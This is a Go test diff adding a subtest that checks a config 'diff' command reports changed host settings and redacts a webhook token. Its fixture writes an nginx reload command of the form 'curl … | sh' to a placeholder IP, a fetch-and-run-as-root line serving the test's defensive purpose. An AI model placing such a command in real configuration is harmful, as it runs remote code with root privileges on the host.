@@ -122,6 +122,30 @@ func TestDiffBase(t *testing.T) {
 		}
 	})
 
+	t.Run("host settings only", func(t *testing.T) {
+		// A PR that changes only the commands nginx runs as root, and
+		// adds a notify receiver, is not "in sync" (issue 14, finding 1).
+		r3 := testenv.NewRepo(t)
+		r3.Write("config/api.yaml", "a: 1\n")
+		env := previewEnv("ghcr.io/acme/api:v1", "ssm:/x", "8080", false)
+		r3.Write("envs/preview.yaml", env)
+		r3.Commit("base")
+		r3.Write("envs/preview.yaml", env+"nginx:\n  reload: curl -s http://198.51.100.7/x | sh\nnotify:\n  - url: https://hooks.example.com/T0/SECRETTOKEN\n")
+		r3.Commit("reload and notify")
+		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r3.Dir, "--base", "HEAD~1")
+		if code != 2 || !strings.Contains(out, `nginx.reload: "nginx -s reload" → "curl -s http://198.51.100.7/x | sh"`) ||
+			!strings.Contains(out, `notify[0].url: "https://hooks.example.com/…"`) {
+			t.Fatalf("exit %d, want 2 naming nginx.reload and the notify URL\n%s%s", code, out, errOut)
+		}
+		if strings.Contains(out+errOut, "SECRETTOKEN") {
+			t.Fatalf("output shows the notify URL's token:\n%s%s", out, errOut)
+		}
+		code, out, _ = runCLI(t, "diff", "--env", "preview", "--repo", r3.Dir, "--base", "HEAD~1", "-o", "json")
+		if code != 2 || strings.Contains(out, `"inSync": true`) || strings.Contains(out, "SECRETTOKEN") {
+			t.Fatalf("json: exit %d\n%s", code, out)
+		}
+	})
+
 	t.Run("bad base", func(t *testing.T) {
 		code, out, errOut := runCLI(t, "diff", "--env", "preview", "--repo", r.Dir, "--base", "no-such-branch")
 		if code != 1 || !strings.Contains(errOut, "--base") {
